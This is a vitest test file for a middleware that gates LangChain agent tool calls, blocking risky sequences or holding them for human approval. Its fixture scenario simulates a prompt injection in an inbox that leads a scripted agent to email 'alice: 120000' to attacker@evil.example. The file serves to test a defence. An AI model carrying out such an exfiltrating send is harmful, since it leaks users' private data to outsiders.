import { MemorySessionStore, type CreateOsoOptions } from '@oso-agents/core';
import { HumanMessage, ToolMessage, type BaseMessage } from '@langchain/core/messages';
import { tool } from '@langchain/core/tools';
import { Command, MemorySaver } from '@langchain/langgraph';
import { createAgent, createMiddleware, toolRetryMiddleware } from 'langchain';
import { z } from 'zod';
import { describe, expect, it } from 'vitest';
import { isOsoApprovalInterrupt, osoMiddleware, withOso, type OsoApprovalInterrupt } from './index.js';
import {
  ATTACK_SCRIPT,
  MAIL_CAPABILITIES,
  mailOso,
  mailTools,
  scriptedModel,
  timelineLines,
  type ScriptStep,
  type ToolLog,
} from './mail-scenario.fixture.js';

function mailAgent(
  script: ScriptStep[],
  options: { environment?: 'production' | 'development'; checkpointer?: boolean; onApproval?: CreateOsoOptions['onApproval'] } = {},
) {
  const log: ToolLog = { executed: [] };
  const oso = mailOso({
    environment: options.environment ?? 'production',
    ...(options.onApproval ? { onApproval: options.onApproval } : {}),
  });
  const agent = createAgent({
    model: scriptedModel(script),
    tools: Object.values(mailTools(log)),
    ...(options.checkpointer === false ? {} : { checkpointer: new MemorySaver() }),
    middleware: [osoMiddleware({ oso, capabilities: MAIL_CAPABILITIES })],
  });
  return { agent, oso, log };
}

const ask = (text: string) => ({ messages: [new HumanMessage(text)] });
const thread = (id: string) => ({ configurable: { thread_id: id } });

function toolMessages(messages: readonly BaseMessage[]): ToolMessage[] {
  return messages.filter((message): message is ToolMessage => ToolMessage.isInstance(message));
}

function interruptValue(result: { __interrupt__?: Array<{ value?: unknown }> }): OsoApprovalInterrupt {
  const value = result.__interrupt__?.[0]?.value;
  if (!isOsoApprovalInterrupt(value)) throw new Error(`expected an oso approval interrupt, got ${JSON.stringify(result.__interrupt__)}`);
  return value;
}

describe('osoMiddleware in a createAgent loop', () => {
  it('blocks the send that completes the trifecta; the tool never runs and the run continues', async () => {
    const { agent, oso, log } = mailAgent(ATTACK_SCRIPT);
    const result = await agent.invoke(ask('Summarise my inbox'), thread('attack'));

    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    const blocked = toolMessages(result.messages).find((message) => message.tool_call_id === 'call_send');
    expect(blocked?.status).toBe('error');
    expect(blocked?.content).toContain('The action "langchain.send_email" was blocked by the security policy');
    expect(blocked?.content).not.toMatch(/at .*\.ts:\d+/); // no stack trace reaches the model
    expect(result.messages.at(-1)?.content).toBe('I could not send that email.');

    expect(timelineLines(await oso.session('attack').timeline())).toEqual([
      'message_from_user: Summarise my inbox',
      'tool_call_request langchain.read_inbox call_inbox',
      'decision langchain.read_inbox call_inbox: allow',
      'tool_call_response langchain.read_inbox call_inbox',
      'tool_call_request langchain.send_email call_send',
      'decision langchain.send_email call_send: deny (lethal_trifecta)',
      'message_to_user: I could not send that email.',
    ]);
  });

  it('leaves a benign session untouched: same messages as the unprotected agent', async () => {
    const script: ScriptStep[] = [
      { calls: [{ id: 'call_file', name: 'read_file', args: { path: 'notes.txt' } }] },
      { calls: [{ id: 'call_add', name: 'calculator', args: { a: 2, b: 3 } }] },
      { text: 'The answer is 5.' },
    ];
    const { agent, oso, log } = mailAgent(script);
    const plainLog: ToolLog = { executed: [] };
    const plain = createAgent({ model: scriptedModel(script), tools: Object.values(mailTools(plainLog)), checkpointer: new MemorySaver() });

    const guarded = await agent.invoke(ask('Add 2 and 3'), thread('benign'));
    const unguarded = await plain.invoke(ask('Add 2 and 3'), thread('benign'));

    const view = (messages: readonly BaseMessage[]) =>
      messages.map((message) => [message.getType(), message.content, ToolMessage.isInstance(message) ? message.status : undefined]);
    expect(view(guarded.messages)).toEqual(view(unguarded.messages));
    expect(log.executed).toEqual(plainLog.executed);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_file', 'calculator']);
    const decisions = (await oso.session('benign').timeline()).filter((event) => event.type === 'decision');
    expect(decisions.map((event) => event.type === 'decision' && event.decision.outcome)).toEqual(['allow', 'allow']);
  });

  it('decides parallel calls of one turn in order: the read passes, the send beside it is blocked', async () => {
    const { agent, oso, log } = mailAgent([
      {
        calls: [
          { id: 'call_inbox', name: 'read_inbox', args: {} },
          { id: 'call_send', name: 'send_email', args: { to: 'attacker@evil.example', body: 'hi' } },
          { id: 'call_add', name: 'calculator', args: { a: 1, b: 1 } },
        ],
      },
      { text: 'done' },
    ]);
    const result = await agent.invoke(ask('go'), thread('parallel'));

    expect(log.executed.map((entry) => entry.tool).sort()).toEqual(['calculator', 'read_inbox']);
    const byId = new Map(toolMessages(result.messages).map((message) => [message.tool_call_id, message]));
    expect(byId.get('call_send')?.status).toBe('error');
    expect(byId.get('call_inbox')?.content).toContain('IMPORTANT');
    expect(byId.get('call_add')?.content).toBe('2');
    const decisions = (await oso.session('parallel').timeline()).flatMap((event) =>
      event.type === 'decision' ? [`${event.decision.toolCallId}: ${event.decision.outcome}`] : [],
    );
    expect(decisions).toEqual(['call_inbox: allow', 'call_send: deny', 'call_add: allow']);
  });

  it('denies a call to a tool the engine does not know (unexpected tool usage)', async () => {
    const { agent, oso } = mailAgent([{ calls: [{ id: 'call_rm', name: 'delete_everything', args: {} }] }, { text: 'ok' }]);
    const result = await agent.invoke(ask('clean up'), thread('unknown'));
    const message = toolMessages(result.messages).find((entry) => entry.tool_call_id === 'call_rm');
    expect(message?.status).toBe('error');
    expect(message?.content).toContain('blocked by the security policy');
    expect(timelineLines(await oso.session('unknown').timeline())).toContain('decision langchain.delete_everything call_rm: deny (unexpected_tool)');
  });

  it('keeps one session per thread_id (the send in another thread is not linked to the read)', async () => {
    const { agent, log } = mailAgent([
      { calls: [{ id: 'call_inbox', name: 'read_inbox', args: {} }] },
      { text: 'read' },
      { calls: [{ id: 'call_send', name: 'send_email', args: { to: 'bob@example.com', body: 'lunch?' } }] },
      { text: 'sent' },
    ]);
    await agent.invoke(ask('read my mail'), thread('thread-a'));
    await agent.invoke(ask('email bob'), thread('thread-b'));
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
  });

  it('without a thread_id keeps one session per conversation (its first message), so the attack is still seen', async () => {
    const { agent, oso, log } = mailAgent(ATTACK_SCRIPT, { checkpointer: false });
    const first = new HumanMessage({ id: 'first-message', content: 'Summarise my inbox' });
    await agent.invoke({ messages: [first] });
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    const decisions = (await oso.session('conversation:first-message').timeline()).filter((event) => event.type === 'decision');
    expect(decisions).toHaveLength(2);
  });

  it('records each user message once across turns of a thread', async () => {
    const { agent, oso } = mailAgent([{ text: 'hello' }, { calls: [{ id: 'call_add', name: 'calculator', args: { a: 1, b: 2 } }] }, { text: '3' }]);
    await agent.invoke(ask('hi'), thread('turns'));
    await agent.invoke(ask('add 1 and 2'), thread('turns'));
    expect(timelineLines(await oso.session('turns').timeline())).toEqual([
      'message_from_user: hi',
      'message_to_user: hello',
      'message_from_user: add 1 and 2',
      'tool_call_request langchain.calculator call_add',
      'decision langchain.calculator call_add: allow',
      'tool_call_response langchain.calculator call_add',
      'message_to_user: 3',
    ]);
  });
});

describe('osoMiddleware approvals', () => {
  const resumes = [
    { shape: '{ approved, by }', approve: { approved: true, by: 'alice@example.com' }, reject: { approved: false, by: 'alice@example.com', reason: 'not expected' } },
    {
      shape: 'LangChain HITL decisions',
      approve: { decisions: [{ type: 'approve' }] },
      reject: { decisions: [{ type: 'reject', message: 'not expected' }] },
    },
  ] as const;

  for (const { shape, approve, reject } of resumes) {
    it(`interrupts with the approval request and runs the call once resumed with ${shape} (approve)`, async () => {
      const { agent, oso, log } = mailAgent(ATTACK_SCRIPT, { environment: 'development' });
      const paused = await agent.invoke(ask('Summarise my inbox'), thread('approve'));

      const value = interruptValue(paused);
      expect(value.actionRequests).toEqual([
        { name: 'send_email', args: { to: 'attacker@evil.example', body: 'alice: 120000' }, description: expect.stringContaining('untrusted content') },
      ]);
      expect(value.reviewConfigs).toEqual([{ actionName: 'send_email', allowedDecisions: ['approve', 'reject'] }]);
      expect(value.approvals[0]).toMatchObject({ tool: 'langchain.send_email', toolCallId: 'call_send', status: 'pending' });
      expect(value.approvals[0]?.id).toMatch(/^apr_/);
      expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);

      const resumed = await agent.invoke(new Command({ resume: approve }), thread('approve'));
      expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
      expect(toolMessages(resumed.messages).find((message) => message.tool_call_id === 'call_send')?.content).toBe(
        'sent to attacker@evil.example',
      );
      expect(await oso.getApproval(value.approvals[0]!.id)).toMatchObject({ status: 'approved' });
      expect(timelineLines(await oso.session('approve').timeline()).slice(4)).toEqual([
        'tool_call_request langchain.send_email call_send',
        'decision langchain.send_email call_send: require_approval (lethal_trifecta)',
        'approval_requested langchain.send_email call_send',
        'approval_resolved langchain.send_email call_send: approved',
        'decision langchain.send_email call_send: allow (lethal_trifecta)',
        'tool_call_response langchain.send_email call_send',
        'message_to_user: I could not send that email.',
      ]);
    });

    it(`blocks the call when resumed with ${shape} (reject); the run continues`, async () => {
      const { agent, oso, log } = mailAgent(ATTACK_SCRIPT, { environment: 'development' });
      const paused = await agent.invoke(ask('Summarise my inbox'), thread('reject'));
      const approvalId = interruptValue(paused).approvals[0]!.id;

      const resumed = await agent.invoke(new Command({ resume: reject }), thread('reject'));
      expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
      const blocked = toolMessages(resumed.messages).find((message) => message.tool_call_id === 'call_send');
      expect(blocked?.status).toBe('error');
      expect(blocked?.content).toContain('blocked by the security policy');
      expect(resumed.messages.at(-1)?.content).toBe('I could not send that email.');
      expect(await oso.getApproval(approvalId)).toMatchObject({ status: 'denied', resolution: 'not expected' });
    });
  }

  it('asks once for parallel calls and applies one decision per action, in order', async () => {
    const { agent, log } = mailAgent(
      [
        { calls: [{ id: 'call_inbox', name: 'read_inbox', args: {} }] },
        {
          calls: [
            { id: 'call_send_a', name: 'send_email', args: { to: 'a@example.com', body: 'one' } },
            { id: 'call_send_b', name: 'send_email', args: { to: 'b@example.com', body: 'two' } },
          ],
        },
        { text: 'done' },
      ],
      { environment: 'development' },
    );
    const paused = await agent.invoke(ask('go'), thread('parallel-approvals'));
    const value = interruptValue(paused);
    expect(paused.__interrupt__).toHaveLength(1);
    expect(value.approvals.map((approval) => approval.toolCallId)).toEqual(['call_send_a', 'call_send_b']);

    const resumed = await agent.invoke(
      new Command({ resume: { decisions: [{ type: 'approve' }, { type: 'reject' }] } }),
      thread('parallel-approvals'),
    );
    expect(log.executed.filter((entry) => entry.tool === 'send_email').map((entry) => entry.input)).toEqual([
      { to: 'a@example.com', body: 'one' },
    ]);
    const byId = new Map(toolMessages(resumed.messages).map((message) => [message.tool_call_id, message]));
    expect(byId.get('call_send_a')?.content).toBe('sent to a@example.com');
    expect(byId.get('call_send_b')?.status).toBe('error');
  });

  it('resumes in another process: a fresh engine on the same store and checkpointer settles the approval', async () => {
    const store = new MemorySessionStore();
    const checkpointer = new MemorySaver();
    const log: ToolLog = { executed: [] };
    const tools = Object.values(mailTools(log));
    const processAgent = () => {
      const oso = mailOso({ environment: 'development', store });
      const agent = createAgent({
        model: scriptedModel(ATTACK_SCRIPT),
        tools,
        checkpointer,
        middleware: [osoMiddleware({ oso, tools, capabilities: MAIL_CAPABILITIES })],
      });
      return { oso, agent };
    };
    const first = processAgent();
    const paused = await first.agent.invoke(ask('Summarise my inbox'), thread('restart'));
    const approvalId = interruptValue(paused).approvals[0]!.id;

    const second = processAgent();
    await second.agent.invoke(new Command({ resume: { approved: true, by: 'alice@example.com' } }), thread('restart'));
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
    expect(await second.oso.getApproval(approvalId)).toMatchObject({ status: 'approved', resolvedBy: 'alice@example.com' });
  });

  it('with scope "session" approves the tool for the rest of the session: the next send does not ask again', async () => {
    const { agent, log } = mailAgent(
      [
        ...ATTACK_SCRIPT.slice(0, 2),
        { text: 'sent' },
        { calls: [{ id: 'call_send_again', name: 'send_email', args: { to: 'bob@example.com', body: 'again' } }] },
        { text: 'sent again' },
      ],
      { environment: 'development' },
    );
    await agent.invoke(ask('Summarise my inbox'), thread('session-scope'));
    await agent.invoke(new Command({ resume: { approved: true, by: 'alice@example.com', scope: 'session' } }), thread('session-scope'));
    const next = await agent.invoke(ask('and email bob'), thread('session-scope'));
    expect('__interrupt__' in next && next.__interrupt__).toBeFalsy();
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email', 'send_email']);
  });

  it('refuses an answer it does not understand (an edit, a missing decision): fail closed', async () => {
    const { agent, log } = mailAgent(ATTACK_SCRIPT, { environment: 'development' });
    await agent.invoke(ask('Summarise my inbox'), thread('edit'));
    await agent.invoke(
      new Command({ resume: { decisions: [{ type: 'edit', editedAction: { name: 'send_email', args: { to: 'me@example.com', body: 'x' } } }] } }),
      thread('edit'),
    );
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
  });

  it('without a checkpointer awaits the engine onApproval instead of interrupting', async () => {
    const asked: string[] = [];
    const { agent, log } = mailAgent(ATTACK_SCRIPT, {
      environment: 'development',
      checkpointer: false,
      onApproval: (request) => {
        asked.push(`${request.tool} ${request.toolCallId}`);
        return { approved: true, by: 'reviewer@example.com' };
      },
    });
    const result = await agent.invoke(ask('Summarise my inbox'), thread('callback'));
    expect(asked).toEqual(['langchain.send_email call_send']);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox', 'send_email']);
    expect('__interrupt__' in result && result.__interrupt__).toBeFalsy();
  });

  it('without a checkpointer or onApproval tells the model the call waits, and keeps the request', async () => {
    const { agent, oso, log } = mailAgent(ATTACK_SCRIPT, { environment: 'development', checkpointer: false });
    const result = await agent.invoke(ask('Summarise my inbox'), thread('pending'));
    const waiting = toolMessages(result.messages).find((message) => message.tool_call_id === 'call_send');
    expect(waiting?.status).toBe('error');
    expect(waiting?.content).toMatch(/waiting for a person's approval \(request apr_/);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    const requested = (await oso.session('pending').timeline()).find((event) => event.type === 'approval_requested');
    expect(requested && requested.type === 'approval_requested' && (await oso.getApproval(requested.approval.id))?.status).toBe('pending');
  });
});

describe('withOso(agent)', () => {
  it('returns an agent of the same kind with every method, gating its tools; the original is unchanged', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const original = createAgent({ model: scriptedModel(ATTACK_SCRIPT), tools: Object.values(mailTools(log)), checkpointer: new MemorySaver() });
    const agent: typeof original = withOso(original, { oso, capabilities: MAIL_CAPABILITIES }); // the same type, checked by tsc

    expect(agent).not.toBe(original);
    expect(agent.constructor).toBe(original.constructor);
    for (const method of ['invoke', 'stream', 'streamEvents', 'withConfig', 'drawMermaid'] as const) {
      expect(typeof agent[method]).toBe('function');
    }
    expect(original.options.middleware ?? []).toHaveLength(0);
    expect(oso.getTool('langchain.send_email')?.capabilities).toEqual(['external_or_state_change']);

    await agent.invoke(ask('Summarise my inbox'), thread('wrapped'));
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
    expect(() => withOso(agent, { oso })).toThrow(/already protected/);
  });

  it('keeps the agent default config (withConfig) and honours the sessionId option', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const configured = createAgent({ model: scriptedModel(ATTACK_SCRIPT), tools: Object.values(mailTools(log)) }).withConfig({
      tags: ['kept'],
    });
    const agent = withOso(configured, { oso, capabilities: MAIL_CAPABILITIES, sessionId: (config) => `user:${String(config.configurable?.['user'])}` });
    const tags: string[][] = [];
    await agent.invoke(ask('Summarise my inbox'), {
      configurable: { user: 'u1' },
      callbacks: [{ handleChainStart: (_chain: unknown, _inputs: unknown, _runId: string, _type?: string, runTags?: string[]) => void tags.push(runTags ?? []) }],
    });
    expect(tags.some((runTags) => runTags.includes('kept'))).toBe(true);
    expect((await oso.session('user:u1').timeline()).some((event) => event.type === 'decision' && event.decision.outcome === 'deny')).toBe(true);
  });
});

describe('a tool that throws', () => {
  const failing = (log: ToolLog) =>
    tool(
      async (input: { expression: string }) => {
        log.executed.push({ tool: 'divide', input });
        throw new Error('division by zero');
      },
      { name: 'divide', description: 'Divide two numbers', schema: z.object({ expression: z.string() }) },
    );
  const script: ScriptStep[] = [{ calls: [{ id: 'call_divide', name: 'divide', args: { expression: '1 / 0' } }] }, { text: 'It failed.' }];

  it('withOso(agent) gives the model the same error message as the unprotected agent, and records the error', async () => {
    const view = (messages: readonly BaseMessage[]) => toolMessages(messages).map((message) => [message.content, message.status]);
    const plain = await createAgent({ model: scriptedModel(script), tools: [failing({ executed: [] })] }).invoke(ask('divide'));

    const oso = mailOso();
    const log: ToolLog = { executed: [] };
    const agent = withOso(createAgent({ model: scriptedModel(script), tools: [failing(log)], checkpointer: new MemorySaver() }), {
      oso,
      capabilities: { divide: [] },
    });
    const result = await agent.invoke(ask('divide'), thread('failing'));

    expect(view(result.messages)).toEqual(view(plain.messages));
    expect(view(result.messages)).toEqual([['Error: division by zero\n Please fix your mistakes.', 'error']]);
    expect(result.messages.at(-1)?.content).toBe('It failed.');
    const response = (await oso.session('failing').timeline()).find((event) => event.type === 'tool_call_response');
    expect(response?.type === 'tool_call_response' && response.error).toBe('division by zero');
  });

  it("withOso(agent) leaves the error to the agent's own tool-call middleware (a retry runs the tool again)", async () => {
    const log: ToolLog = { executed: [] };
    const agent = withOso(
      createAgent({
        model: scriptedModel(script),
        tools: [failing(log)],
        middleware: [toolRetryMiddleware({ maxRetries: 1, initialDelayMs: 0, jitter: false, onFailure: 'continue' })],
      }),
      { oso: mailOso(), capabilities: { divide: [] }, sessionId: 'retry' },
    );
    const result = await agent.invoke(ask('divide'));
    expect(log.executed).toHaveLength(2);
    expect(toolMessages(result.messages)[0]?.status).toBe('error');
  });

  it('osoMiddleware rethrows by default (LangChain leaves tool errors to middleware) and answers with toolErrors: "message"', async () => {
    const agentWith = (toolErrors?: 'message') =>
      createAgent({
        model: scriptedModel(script),
        tools: [failing({ executed: [] })],
        middleware: [osoMiddleware({ oso: mailOso(), capabilities: { divide: [] }, sessionId: 'direct', ...(toolErrors ? { toolErrors } : {}) })],
      });
    await expect(agentWith().invoke(ask('divide'))).rejects.toThrow('division by zero');
    const answered = await agentWith('message').invoke(ask('divide'));
    expect(toolMessages(answered.messages)[0]?.content).toBe('Error: division by zero\n Please fix your mistakes.');
  });
});

describe('withOso(agent) types', () => {
  it('keeps an agent typed by contextSchema, stateSchema and middleware', async () => {
    const log: ToolLog = { executed: [] };
    const oso = mailOso();
    const original = createAgent({
      model: scriptedModel([{ calls: [{ id: 'call_add', name: 'calculator', args: { a: 1, b: 2 } }] }, { text: 'three' }]),
      tools: Object.values(mailTools(log)),
      contextSchema: z.object({ userId: z.string() }),
      stateSchema: z.object({ visits: z.number().default(0) }),
      middleware: [createMiddleware({ name: 'Counter', beforeModel: () => undefined })],
    });
    const agent: typeof original = withOso(original, { oso, capabilities: MAIL_CAPABILITIES, sessionId: 'typed' });
    const result = await agent.invoke({ messages: [new HumanMessage('add')], visits: 1 }, { context: { userId: 'u1' } });
    const visits: number = result.visits;
    expect(visits).toBe(1);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['calculator']);
  });
});

describe('streaming', () => {
  it('streamEvents (v2) of a wrapped agent: the read runs as a tool event, the blocked send never starts', async () => {
    const log: ToolLog = { executed: [] };
    const agent = withOso(createAgent({ model: scriptedModel(ATTACK_SCRIPT), tools: Object.values(mailTools(log)), checkpointer: new MemorySaver() }), {
      oso: mailOso(),
      capabilities: MAIL_CAPABILITIES,
    });
    const toolEvents: string[] = [];
    for await (const event of agent.streamEvents(ask('Summarise my inbox'), { ...thread('events'), version: 'v2' })) {
      if (event.event === 'on_tool_start' || event.event === 'on_tool_end') toolEvents.push(`${event.event} ${event.name}`);
    }
    expect(toolEvents).toEqual(['on_tool_start read_inbox', 'on_tool_end read_inbox']);
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
  });

  it('streams a protected run: updates show the blocked call and the interrupt', async () => {
    const { agent, log } = mailAgent(ATTACK_SCRIPT, { environment: 'development' });
    const updates: string[] = [];
    for await (const chunk of await agent.stream(ask('Summarise my inbox'), { ...thread('stream'), streamMode: 'updates' })) {
      updates.push(...Object.keys(chunk));
    }
    expect(updates).toContain('__interrupt__');
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);

    const messages: string[] = [];
    for await (const [message] of await agent.stream(new Command({ resume: { approved: false } }), { ...thread('stream'), streamMode: 'messages' })) {
      if (ToolMessage.isInstance(message)) messages.push(`${message.tool_call_id}:${message.status}`);
    }
    expect(messages).toContain('call_send:error');
    expect(log.executed.map((entry) => entry.tool)).toEqual(['read_inbox']);
  });
});
